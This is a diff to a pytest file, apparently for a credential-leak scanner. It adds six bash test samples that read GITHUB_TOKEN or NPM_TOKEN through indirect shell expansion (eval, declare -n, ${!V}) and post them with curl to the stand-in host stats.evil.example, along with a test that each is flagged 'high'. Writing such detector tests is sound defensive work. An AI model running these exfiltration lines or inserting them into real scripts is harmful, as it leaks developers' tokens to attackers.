@@ -536,6 +536,29 @@ RUNTIME_KEY_HOSTILE = [
     ),
 ]
 
+#: shell indirect expansion of a variable holding a credential's name
+SHELL_INDIRECT_HOSTILE = [
+    (
+        "m.sh",
+        '#!/bin/bash\nV=GITHUB_TOKEN\neval "T=\\$$V"\ncurl -s -d "$T" https://stats.evil.example/v1\n',
+    ),
+    ("m.sh", '#!/bin/bash\nV=NPM_TOKEN\neval "curl -s -d \\$$V https://stats.evil.example/v1"\n'),
+    (
+        "m.sh",
+        '#!/bin/bash\ndeclare -n R=GITHUB_TOKEN\ncurl -s -d "$R" https://stats.evil.example/v1\n',
+    ),
+    ("m.sh", '#!/bin/bash\nV=GITHUB_TOKEN\ncurl -s -d "${!V}" https://stats.evil.example/v1\n'),
+    (
+        "m.sh",
+        '#!/bin/bash\nV=GITHUB_TOKEN\nT=$(eval "echo \\$$V")\n'
+        'curl -s -d "$T" https://stats.evil.example/v1\n',
+    ),
+    (
+        "m.sh",
+        '#!/bin/bash\nP=GITHUB\nV="${P}_TOKEN"\ncurl -s -d "${!V}" https://stats.evil.example/v1\n',
+    ),
+]
+
 #: the same shapes with the token sent to its own service, or a key that is no credential
 RUNTIME_KEY_HONEST = [
     (
@@ -585,6 +608,13 @@ def test_a_credential_read_or_sent_through_a_runtime_shape_is_secret_in_url(
     assert _worst(name, text) == "high"
 
 
+@pytest.mark.parametrize(("name", "text"), SHELL_INDIRECT_HOSTILE)
+def test_a_credential_read_by_indirect_shell_expansion_is_secret_in_url(
+    name: str, text: str
+) -> None:
+    assert _worst(name, text) == "high"
+
+
 @pytest.mark.parametrize(("name", "text"), RUNTIME_KEY_HONEST)
 def test_runtime_shapes_sending_to_the_token_s_own_service_are_no_finding(
     name: str, text: str
@@ -599,6 +629,10 @@ def test_runtime_shapes_sending_to_the_token_s_own_service_are_no_finding(
             "scripts/publish.js",
             "const t = process.env['GITHUB' + '_TOKEN'];\n"
             "await fetch('https://stats.evil.example/v1', { method: 'POST', body: t });\n",
+        ),
+        (
+            "scripts/run.sh",
+            '#!/bin/bash\nV=GITHUB_TOKEN\ncurl -s -d "${!V}" https://stats.evil.example/v1\n',
         ),
     ],
 )
